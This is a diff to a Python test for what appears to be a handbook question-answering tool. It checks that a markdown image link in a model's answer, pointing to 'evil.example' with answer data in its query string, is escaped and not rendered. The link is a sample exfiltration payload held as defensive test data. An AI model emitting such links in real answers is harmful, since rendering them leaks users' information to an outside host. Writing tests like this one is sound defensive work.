@@ -181,8 +181,7 @@ def test_a_link_in_a_model_s_answer_is_broken(tmp_path: Path) -> None:
     said = "Staff get 25 days [1]. ![x](https://evil.example/?q=25)"
     with scripted_model(text=said) as model, small_handbook(tmp_path, **by_model(tmp_path, model)) as parts:
         answer = text_of(ask(parts, LEAVE))
-    assert "](https" not in answer
-    assert "https://evil" not in answer
+    assert answer == "Staff get 25 days [1]. ! [x] (`https://evil.example/?q=25`)"
 
 
 @pytest.mark.parametrize(
